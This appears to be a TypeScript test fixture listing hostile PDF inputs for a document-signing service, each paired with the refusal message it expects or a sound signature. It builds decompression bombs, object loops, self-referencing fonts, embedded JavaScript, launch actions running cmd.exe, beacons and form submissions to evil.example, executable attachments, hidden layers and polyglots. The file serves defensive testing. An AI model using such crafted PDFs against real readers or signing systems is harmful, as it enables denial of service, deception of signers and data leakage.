/** Every bad input that issue 4 names, and what becomes of it: a refusal with its sentence, or a sound signature. */
import { deflateSync } from 'node:zlib';
import {
  attachmentPdf,
  encryptedPdf,
  endlessPdfs,
  externalStreamPdf,
  hiddenLayerPdf,
  launchPdf,
  manyPagesPdf,
  objectStreamPdf,
  qpdf,
  scriptedPdfs,
  simplePdf,
  xfaPdf,
  xrefBombPdf,
} from '../../support/pdfs.ts';
import {
  deflatedTwice,
  distinctPages,
  drawn,
  duplicated,
  edited,
  endlessTrueType,
  FORM,
  GIGABYTE,
  IMAGE,
  inFont,
  link,
  page,
  TWICE,
  tenGigabytes,
  X,
  Y,
  zipAround,
} from './pieces.ts';

export interface HostileInput {
  readonly name: string;
  readonly make: () => Uint8Array;
  /** What the sender reads when it is refused; null where it is signed. */
  readonly refused: RegExp | null;
  /** What the signed file shows, as poppler reads it. */
  readonly shows?: RegExp;
  /** Bytes that must not be in what is signed. */
  readonly without?: string;
  /** Takes long: only with SIGNPOST_LONG=1. */
  readonly long?: boolean;
}

const SCRIPTS = /^550 5\.6\.1 "contract.pdf" contains scripts, which could change what people see after they signed\./;
const LAUNCH =
  /^550 5\.6\.1 "contract.pdf" contains actions that start programs, open other files or pages, or send data\./;
const LAYERS =
  /^550 5\.6\.1 "contract.pdf" has parts that can be shown and hidden, so two people could see two documents\./;
const ELSEWHERE = /^550 5\.6\.1 "contract.pdf" fetches a part of its content from elsewhere\./;
const PROGRAM = /^550 5\.6\.1 "contract.pdf" has a program attached inside\./;
const PROTECTED = /^550 5\.6\.1 "contract.pdf" is protected with a password, so nobody could sign it\./;
const XFA = /^550 5\.6\.1 "contract.pdf" is a dynamic form \(XFA\), which has no fixed pages to sign\./;
const PAGES = /^550 5\.6\.1 "contract.pdf" has too many pages\./;
const COMPLEX = /^550 5\.6\.0 "contract.pdf" is too complex: reading it would take too much memory\./;
const DAMAGED = /^550 5\.6\.0 "contract.pdf" is damaged\./;
const NO_PDF = /^550 5\.6\.1 The attachment "contract.pdf" is called a PDF but is none\./;
const EMPTY = /^550 5\.6\.1 The attachment "contract.pdf" is empty\./;

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const WEB = '<< /S /URI /URI (https://evil.example/beacon) >>';
const annotation = (entries: string) => page({ page: `/Annots [<< /Type /Annot /Rect [0 0 99 99] ${entries} >>]` });
const layers = (config: string, layer = '') =>
  page(
    { catalog: `/OCProperties << /OCGs [${X}] /D << ${config} >> >>`, resources: `/Properties << /L ${X} >>` },
    `<< /Type /OCG /Name (Layer) ${layer} >>`,
  );
const around = (before: string | Uint8Array, after: string | Uint8Array = '') =>
  Buffer.concat([Buffer.from(before as Uint8Array), simplePdf(), Buffer.from(after as Uint8Array)]);
const zipped = zipAround(simplePdf());

type Row = readonly [name: string, make: () => Uint8Array, refused: RegExp | null, more?: Partial<HostileInput>];

const STRUCTURE: readonly Row[] = [
  ['broken xref: startxref leads nowhere', () => edited(/startxref\n\d+/, 'startxref\n99999999'), null],
  ['broken xref: every offset is wrong', () => edited(/\d{10} 00000 n/g, '0000000001 00000 n'), null],
  ['broken xref: none at all', () => edited(/xref\n[\s\S]*?trailer/, 'trailer'), null],
  ['broken xref: no trailer either', () => edited(/xref\n[\s\S]*/, ''), null],
  ['missing endstream', () => edited('\nendstream', ''), DAMAGED],
  ['missing endstream and endobj', () => edited('\nendstream\nendobj', ''), null],
  ['wrong length: too short', () => edited(/\/Length \d+/, '/Length 5'), null],
  ['wrong length: too long', () => edited(/\/Length \d+/, '/Length 5000'), null],
  ['wrong length: negative', () => edited(/\/Length \d+/, '/Length -20'), null],
  ['wrong length: a reference to itself', () => edited(/\/Length \d+/, '/Length 5 0 R'), null],
  // As for readers that repair files, the last one counts; all that sign see the same.
  ['duplicate object numbers', duplicated, null, { shows: /Another text/ }],
  ['1 GB declared: /Length', () => edited(/\/Length \d+/, `/Length ${GIGABYTE}`), null],
  ['1 GB declared: a table of a billion entries', () => edited(/xref\n0 6/, 'xref\n0 1000000000'), null],
  ['1 GB declared: offsets', () => edited(/\d{10} 00000 n/g, '1073741824 00000 n'), null],
  ['1 GB declared: a cross-reference stream', xrefBombPdf, COMPLEX],
  [
    '1 GB declared: a cross-reference stream that hides its type',
    () => xrefBombPdf('/XR#65f'),
    /^550 5\.6\.0 "contract.pdf" (is too complex: reading it would take too much memory|takes too long to read)\./,
    { long: true },
  ],
  [
    '1 GB declared: an object stream',
    () => edited('/N 1 ', `/N ${GIGABYTE} `, objectStreamPdf([[7, '(text)']], '/A 7 0 R')),
    DAMAGED,
  ],
  ['0 bytes', () => new Uint8Array(), EMPTY],
];

const LOOPS: readonly Row[] = Object.entries({
  'page tree loop': DAMAGED,
  'doubling page tree': DAMAGED,
  'deep nesting': DAMAGED,
  'unclosed nesting': DAMAGED,
  'reference to itself': null,
  'parents in a circle': null,
  'huge counts': DAMAGED,
}).map(([name, refused]) => [`object loop: ${name}`, endlessPdfs[name]!, refused] as const);

const BOMBS: readonly Row[] = [
  ['10 GB bomb: page content, deflated once', () => drawn(`${FORM} /Filter /FlateDecode`, tenGigabytes()), COMPLEX],
  ['10 GB bomb: page content, deflated twice', () => drawn(`${FORM} ${TWICE}`, deflatedTwice()), COMPLEX],
  ['10 GB bomb: object stream', () => bomb(`/N 1 /First 64000000 ${TWICE}`), COMPLEX],
  [
    '10 GB bomb: metadata',
    () => page({ catalog: `/Metadata ${X}` }, { dict: `/Type /Metadata ${TWICE}`, data: deflatedTwice() }),
    COMPLEX,
  ],
  ['10 GB bomb: a small picture', () => drawn(`${IMAGE} /Width 9 /Height 9 ${TWICE}`, deflatedTwice()), COMPLEX],
  [
    '10 GB bomb: font file',
    () => inFont('/Subtype /TrueType /BaseFont /Bad', '/FontFile2', { dict: TWICE, data: deflatedTwice() }),
    COMPLEX,
  ],
  [
    '10 GB bomb: attached file',
    () => edited('/Filter /FlateDecode', TWICE, attachmentPdf('a.xml', tenGigabytes())),
    COMPLEX,
  ],
  [
    'a hundred layers of deflate',
    () =>
      drawn(
        `${FORM} /Filter [${'/FlateDecode '.repeat(100)}]`,
        Array.from({ length: 100 }).reduce<Buffer>(data => deflateSync(data), Buffer.from('q Q')),
      ),
    null,
  ],
  ['100,000 pages: one object again and again', manyPagesPdf, PAGES],
  ['100,000 pages: each its own', distinctPages, PAGES],
  ['giant picture: 10 gigapixels', () => drawn(`${IMAGE} /Width 99999 /Height 99999`, Buffer.from('x')), COMPLEX],
  [
    'giant picture: a mask of 10 gigapixels',
    () =>
      page(
        { resources: `/XObject << /X ${X} >>` },
        { dict: `${IMAGE} /Width 1 /Height 1 /SMask ${Y}`, data: Buffer.from('x') },
        { dict: `${IMAGE} /Width 99999 /Height 99999`, data: Buffer.from('x') },
      ),
    COMPLEX,
  ],
];

function bomb(dict: string): Uint8Array {
  const data = deflatedTwice();
  return edited(
    /<< \/Type \/ObjStm [\s\S]*?\nendstream/,
    `<< /Type /ObjStm ${dict} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`.replaceAll(
      '$',
      '$$$$',
    ),
    objectStreamPdf([[7, '(text)']], '/A 7 0 R'),
  );
}

const FONTS: readonly Row[] = [
  [
    'font: TrueType glyph made of itself',
    () =>
      inFont('/Subtype /TrueType /BaseFont /Bad /FirstChar 0 /LastChar 255 /Widths []', '/FontFile2', {
        dict: '',
        data: endlessTrueType(),
      }),
    null,
  ],
  [
    'font: Type 1 that never ends',
    () =>
      inFont('/Subtype /Type1 /BaseFont /Bad', '/FontFile', {
        dict: '/Length1 999999999 /Length2 -1 /Length3 0',
        data: Buffer.from(`%!PS-AdobeFont-1.0: Bad\n${'{'.repeat(5000)} 999999999 array currentfile eexec `),
      }),
    null,
  ],
  [
    'font: CFF of random bytes',
    () =>
      inFont('/Subtype /Type1 /BaseFont /Bad', '/FontFile3', {
        dict: '/Subtype /Type1C',
        data: Buffer.from('0100040400ffffffffffffffff', 'hex'),
      }),
    null,
  ],
  [
    'font: Type 3 glyph that shows itself',
    () =>
      page(
        { resources: `/Font << /F1 ${X} >>` },
        `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /A ${Y} >> /Encoding << /Differences [65 /A] >> /FirstChar 65 /LastChar 65 /Widths [9] /Resources << /Font << /F1 ${X} >> >> >>`,
        { dict: '', data: Buffer.from('9 0 d0 BT /F1 9 Tf (A) Tj ET') },
      ),
    null,
  ],
  [
    'a form that draws itself',
    () => drawn(`${FORM} /Resources << /XObject << /X ${X} >> >>`, Buffer.from('/X Do')),
    null,
  ],
];

const encrypted = (...args: string[]) => qpdf(simplePdf(), ['--allow-weak-crypto', '--encrypt', ...args, '--']);
const ENCRYPTION: readonly Row[] = [
  ['encrypted with a password, AES-256', encryptedPdf, PROTECTED],
  ['encrypted with an empty password, AES-256', () => encryptedPdf(''), PROTECTED],
  ['encrypted with a password, AES-128', () => encrypted('secret', 'owner', '128', '--use-aes=y'), PROTECTED],
  ['encrypted with an empty password, RC4 40 bit', () => encrypted('', 'owner', '40'), PROTECTED],
  [
    'encrypted, its dictionary unknown',
    () => edited('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Acme.Rights >>'),
    PROTECTED,
  ],
];

const ACTIVE: readonly Row[] = [
  ['XFA', xfaPdf, XFA],
  [
    'XFA in pieces',
    () =>
      page(
        { catalog: `/AcroForm << /Fields [] /XFA [(template) ${X}] >>` },
        { dict: '', data: Buffer.from('<template/>') },
      ),
    XFA,
  ],
  ...Object.entries(scriptedPdfs).map(([place, make]): Row => [`JavaScript: ${place}`, make, SCRIPTS]),
  [
    'JavaScript: a stream',
    () =>
      page({ catalog: `/OpenAction << /S /JavaScript /JS ${X} >>` }, { dict: '', data: Buffer.from('app.alert(1)') }),
    SCRIPTS,
  ],
  [
    'JavaScript: annotation that comes into view',
    () => annotation(`/Subtype /Screen /AA << /PV ${SCRIPT} >>`),
    SCRIPTS,
  ],
  ['JavaScript: link target', () => link('<< /S /URI /URI (  JavaScript:alert\\(1\\)) >>'), SCRIPTS],
  ['JavaScript: 3D artwork', () => drawn('/Type /3D /Subtype /U3D /OnInstantiate (a)', Buffer.from('x')), SCRIPTS],
  ['JavaScript: rich media', () => link('<< /S /RichMediaExecute /CMD << /C (a) >> >>'), SCRIPTS],
  ['launch: when it opens', launchPdf, LAUNCH],
  ['launch: link, Windows parameters', () => link('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), LAUNCH],
  [
    'launch: behind a harmless action',
    () => link(`<< /S /GoTo /D [4 0 R /Fit] /Next << /S /Launch /F (a.exe) >> >>`),
    LAUNCH,
  ],
  ['form that is sent', () => link('<< /S /SubmitForm /F (http://evil.example/) >>'), LAUNCH],
  ['URI on open: document', () => page({ catalog: `/OpenAction ${WEB}` }), LAUNCH],
  [
    'URI on open: behind going to a page',
    () => page({ catalog: `/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next [${WEB}] >>` }),
    LAUNCH,
  ],
  ['URI on open: page', () => page({ page: `/AA << /O ${WEB} >>` }), LAUNCH],
  ['URI on open: annotation', () => annotation(`/Subtype /Screen /AA << /PO ${WEB} >>`), LAUNCH],
  ['URI on close', () => page({ catalog: `/AA << /WC ${WEB} >>` }), LAUNCH],
  ['another file on open', () => page({ catalog: '/OpenAction << /S /GoToR /F (b.pdf) /D [0 /Fit] >>' }), LAUNCH],
  ['executable attachment: by name', () => attachmentPdf('invoice.pdf.exe'), PROGRAM],
  ['executable attachment: by content', () => attachmentPdf('invoice.xml', Buffer.from('MZ\x90\0\x03')), PROGRAM],
  [
    'executable attachment: pinned to the page',
    () =>
      page(
        {
          page: `/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.js) /EF << /F ${X} >> >> >>]`,
        },
        { dict: '/Type /EmbeddedFile', data: Buffer.from('x') },
      ),
    PROGRAM,
  ],
];

const APPEARANCE: readonly Row[] = [
  ['optional content: hidden layer', hiddenLayerPdf, LAYERS],
  ['optional content: all off by default', () => layers('/BaseState /OFF'), LAYERS],
  [
    'optional content: seen on screen, not in print',
    () =>
      layers(`/AS [<< /Event /Print /Category [/Print] /OCGs [${X}] >>]`, '/Usage << /Print << /PrintState /OFF >> >>'),
    LAYERS,
  ],
  [
    'optional content: by zoom',
    () => layers(`/AS [<< /Event /View /Category [/Zoom] /OCGs [${X}] >>]`, '/Usage << /Zoom << /min 2 >> >>'),
    LAYERS,
  ],
  [
    'optional content: by a rule',
    () => page({ resources: '/Properties << /L << /Type /OCMD /OCGs [] /P /AllOff >> >>' }),
    LAYERS,
  ],
  ['optional content: on a click', () => link('<< /S /SetOCGState /State [] >>'), LAYERS],
  ['optional content: hidden on a click', () => link('<< /S /Hide /T (a) >>'), LAYERS],
  ['external stream: a form', externalStreamPdf, ELSEWHERE],
  [
    'external stream: a page’s content',
    () => edited('<<  /Length', '<< /F (http://evil.example/page) /Length'),
    ELSEWHERE,
  ],
  ['external stream: a page of another file', () => drawn(`${FORM} /Ref << /F (b.pdf) /Page 0 >>`), ELSEWHERE],
  [
    'external stream: another picture in print (OPI)',
    () =>
      drawn(`${IMAGE} /Width 1 /Height 1 /OPI << /2.0 << /Type /OPI /Version 2.0 /F (b.tif) >> >>`, Buffer.from('x')),
    null,
    { without: 'OPI' },
  ],
];

const POLYGLOTS: readonly Row[] = [
  ['polyglot: PDF after 1 kB of other bytes', () => around('x'.repeat(1000)), null, { without: 'xxxxxxxx' }],
  ['polyglot: PDF after more than 1 KiB of other bytes', () => around('x'.repeat(1024)), NO_PDF],
  ['polyglot: ZIP whose file is the PDF', () => around(zipped.before, zipped.after), null, { without: 'PK\x03\x04' }],
  [
    'polyglot: PDF with a ZIP behind it',
    () => around('', Buffer.concat([zipped.before, simplePdf(), zipped.after])),
    null,
    { without: 'PK\x03\x04' },
  ],
  [
    'polyglot: web page',
    () => around('<html><script>alert(1)</script><!--', '--></html>'),
    null,
    { without: '<script' },
  ],
  ['polyglot: program', () => around(`MZ${'\0'.repeat(200)}`), null],
];

const rows = [...STRUCTURE, ...LOOPS, ...BOMBS, ...FONTS, ...ENCRYPTION, ...ACTIVE, ...APPEARANCE, ...POLYGLOTS];
export const INPUTS: readonly HostileInput[] = rows.map(([name, make, refused, more]) => ({
  name,
  make,
  refused,
  ...more,
}));
